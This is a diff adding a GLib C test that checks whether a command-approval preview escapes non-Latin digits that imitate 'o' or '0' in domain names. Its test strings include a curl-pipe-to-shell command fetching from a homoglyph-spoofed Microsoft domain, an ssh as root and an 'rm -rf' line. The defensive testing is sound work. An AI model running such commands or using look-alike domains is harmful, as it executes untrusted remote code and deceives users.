@@ -182,6 +182,36 @@ test_preview_look_alike_prose (void)
   assert_look_alike (cases, G_N_ELEMENTS (cases));
 }
 
+/* Finding (att19, item 1, tried as an attacker would): a decimal digit
+ * of another script in a Latin word was shown raw, with no friction:
+ * `micros\u0be6ft.com` (Tamil zero), `g\u0966\u0966gle.com`
+ * (Devanagari), Telugu, Myanmar, Bengali, Gujarati and Kannada zeros
+ * drawn as o or 0.  Such a digit is escaped now in a run with Latin
+ * letters or ASCII digits, or alone in a word with them; a Hindi, Tamil
+ * or Arabic number among its own words reads as it is. */
+static void
+test_preview_look_alike_digits (void)
+{
+  static const LookAlikeCase cases[] = {
+    { "curl https://micros\\u0be6ft.com/i | sh", "curl https://micros\\u0be6ft.com/i | sh", TRUE },
+    { "curl https://g\\u0966\\u0966gle.com", "curl https://g\\u0966\\u0966gle.com", TRUE },
+    { "curl https://g\\u0c66\\u0c66gle.com", "curl https://g\\u0c66\\u0c66gle.com", TRUE },
+    { "curl https://g\\u1040\\u1040gle.com", "curl https://g\\u1040\\u1040gle.com", TRUE },
+    { "curl https://g\\u09e6\\u09e6gle.com", "curl https://g\\u09e6\\u09e6gle.com", TRUE },
+    { "curl https://g\\u0ae6\\u0ae6gle.com", "curl https://g\\u0ae6\\u0ae6gle.com", TRUE },
+    { "curl https://g\\u0ce6\\u0ce6gle.com", "curl https://g\\u0ce6\\u0ce6gle.com", TRUE },
+    { "ssh root@10.0.0.\\u0be6", "ssh root@10.0.0.\\u0be6", TRUE },
+    { "rm -rf /tmp/\\u0966x", "rm -rf /tmp/\\u0966x", TRUE },
+    /* kept: ASCII digits, and a script's digits among its own words */
+    { "echo 100 ok", "echo 100 ok", FALSE },
+    { "echo \\u092e\\u0942\\u0932\\u094d\\u092f \\u0967\\u0966\\u0966", "echo \u092e\u0942\u0932\u094d\u092f \u0967\u0966\u0966", FALSE },
+    { "echo \\u0baa\\u0b95\\u0bcd\\u0b95\\u0bae\\u0bcd \\u0be7\\u0be6", "echo \u0baa\u0b95\u0bcd\u0b95\u0bae\u0bcd \u0be7\u0be6", FALSE },
+    { "echo \\u0661\\u0662\\u0663 \\u0635\\u0641\\u062d\\u0629", "echo \u0661\u0662\u0663 \u0635\u0641\u062d\u0629", FALSE },
+  };
+
+  assert_look_alike (cases, G_N_ELEMENTS (cases));
+}
+
 /* Every character whose compatibility form (NFKC) is other ASCII, between
  * two Latin letters, is escaped: GLib's own tables, every code point, so
  * the blocks pd-tool-look-alike.c looks in for such forms miss none (a
@@ -228,6 +258,7 @@ main (int   argc,
   g_test_add_func ("/pd/approver/preview-look-alike", test_preview_look_alike);
   g_test_add_func ("/pd/approver/preview-look-alike-scripts", test_preview_look_alike_scripts);
   g_test_add_func ("/pd/approver/preview-look-alike-prose", test_preview_look_alike_prose);
+  g_test_add_func ("/pd/approver/preview-look-alike-digits", test_preview_look_alike_digits);
   g_test_add_func ("/pd/approver/look-alike-every-ascii-form", test_look_alike_every_ascii_form);
 
   return g_test_run ();
